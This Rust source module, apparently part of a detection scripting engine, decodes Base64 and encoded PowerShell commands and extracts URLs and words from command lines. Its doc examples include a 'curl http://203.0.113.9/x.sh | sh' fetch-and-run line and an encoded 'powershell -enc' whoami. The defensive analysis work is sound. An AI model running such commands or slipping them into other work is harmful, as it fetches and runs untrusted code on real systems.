//! Command lines: what is encoded in them, and what they fetch.

use super::{table, text};
use crate::script::eval::{Cx, Stop};
use crate::script::value::Value;

table! { "Command lines":
    Text.base64_decoded() -> Text ? true, "What standard or URL-safe Base64 stands for, where that is text (UTF-8, or UTF-16 as PowerShell writes it).", r#""aGVsbG8=".base64_decoded()"# => "\"hello\"", |_, a| {
        Ok(decode_base64(text(a, 0)).and_then(|b| as_text(&b)).into())
    };
    Text.has_encoded_command() -> Bool, "Whether a PowerShell command line carries an encoded command that can be decoded.", r#""powershell -enc dwBoAG8AYQBtAGkA".has_encoded_command()"# => "true", |_, a| {
        Ok(encoded_command(text(a, 0)).is_some().into())
    };
    Text.decoded_command() -> Text, "The command line with an encoded PowerShell command in it replaced by what it stands for, twice at most.", r#""powershell -enc dwBoAG8AYQBtAGkA".decoded_command()"# => "\"powershell -enc whoami\"", |cx, a| {
        cx.work(text(a, 0).len().saturating_div(16))?;
        Ok(decoded(text(a, 0)).into())
    };
    Text.urls() -> Texts, "The web addresses in it, an encoded command included.", r#""curl http://203.0.113.9/x.sh | sh".urls()"# => r#"["http://203.0.113.9/x.sh"]"#, |cx, a| found(cx, text(a, 0), is_url);
    Text.words() -> Texts, "The words of a command line; quotes keep one together.", r#""\"C:\\My Tools\\a.exe\" -x 1".words()"# => r#"["C:\\My Tools\\a.exe", "-x", "1"]"#, |cx, a| {
        let all = words(text(a, 0));
        cx.made(all.len())?;
        Ok(Value::list(all.into_iter().map(Value::from)))
    };
}

fn found(cx: &mut Cx<'_>, line: &str, wanted: fn(&str) -> bool) -> Result<Value, Stop> {
    cx.work(line.len().saturating_div(16))?;
    let whole = decoded(line);
    let mut all: Vec<&str> = Vec::new();
    for part in whole.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | '<' | '>' | '|' | ';' | ',' | '`' | '{' | '}')) {
        if wanted(part) && !all.contains(&part) {
            all.push(part);
        }
    }
    cx.made(all.len())?;
    Ok(Value::list(all.into_iter().map(Value::from)))
}

fn is_url(part: &str) -> bool {
    let lower = part.to_lowercase();
    ["http://", "https://", "ftp://"].iter().any(|s| lower.strip_prefix(s).is_some_and(|rest| !rest.is_empty()))
}

/// The words of a command line, as Windows and shells roughly agree: blanks part, double quotes keep together.
fn words(line: &str) -> Vec<String> {
    let mut all = Vec::new();
    let (mut word, mut quoted, mut any) = (String::new(), false, false);
    for c in line.chars() {
        match c {
            '"' => {
                quoted = !quoted;
                any = true;
            }
            c if c.is_whitespace() && !quoted => {
                if any {
                    all.push(std::mem::take(&mut word));
                }
                any = false;
            }
            c => {
                word.push(c);
                any = true;
            }
        }
    }
    if any {
        all.push(word);
    }
    all
}

/// The encoded part of a PowerShell command line and what it stands for. PowerShell takes any prefix of
/// `-EncodedCommand` that is not another option's, with `-` or `/` before it.
fn encoded_command(line: &str) -> Option<(String, String)> {
    let all = words(line);
    let powershell = all.first().is_some_and(|w| {
        let name = w.rsplit(['\\', '/']).next().unwrap_or(w).to_lowercase();
        name.starts_with("powershell") || name.starts_with("pwsh")
    }) || line.to_lowercase().contains("powershell");
    if !powershell {
        return None;
    }
    all.windows(2).find_map(|pair| {
        let [option, value] = pair else { return None };
        let option = option.strip_prefix(['-', '/', '\u{2013}'])?.to_lowercase();
        let is_option = !option.is_empty() && ("encodedcommand".starts_with(&option) || option == "ec");
        let clear = as_text(&decode_base64(value).filter(|_| is_option)?)?;
        Some((value.clone(), clear))
    })
}

fn decoded(line: &str) -> String {
    let mut line = line.to_owned();
    for _ in 0..2 {
        match encoded_command(&line) {
            Some((hidden, clear)) => line = line.replacen(&hidden, &clear, 1),
            None => break,
        }
    }
    line
}

/// Standard or URL-safe Base64 with or without padding; nothing for other text.
fn decode_base64(text: &str) -> Option<Vec<u8>> {
    let text = text.trim().trim_end_matches('=');
    if text.len() < 2 {
        return None;
    }
    let mut out = Vec::with_capacity(text.len());
    let (mut buffer, mut bits) = (0u32, 0u32);
    for c in text.bytes() {
        let six = match c {
            b'A'..=b'Z' => c.wrapping_sub(b'A'),
            b'a'..=b'z' => c.wrapping_sub(b'a').wrapping_add(26),
            b'0'..=b'9' => c.wrapping_sub(b'0').wrapping_add(52),
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        buffer = (buffer << 6) | u32::from(six);
        bits = bits.saturating_add(6);
        if bits >= 8 {
            bits = bits.saturating_sub(8);
            out.push(u8::try_from((buffer >> bits) & 0xff).unwrap_or(0));
        }
    }
    Some(out)
}

/// Bytes as text: UTF-16 little-endian where every second byte is nearly always zero, else UTF-8.
fn as_text(bytes: &[u8]) -> Option<String> {
    let zeros = bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count();
    let text = if bytes.len() >= 2 && bytes.len().is_multiple_of(2) && zeros.saturating_mul(4) >= bytes.len() {
        let units: Vec<u16> =
            bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c.first().copied().unwrap_or(0), c.get(1).copied().unwrap_or(0)])).collect();
        String::from_utf16(&units).ok()?
    } else {
        std::str::from_utf8(bytes).ok()?.to_owned()
    };
    text.chars().all(|c| !c.is_control() || c.is_whitespace()).then_some(text)
}
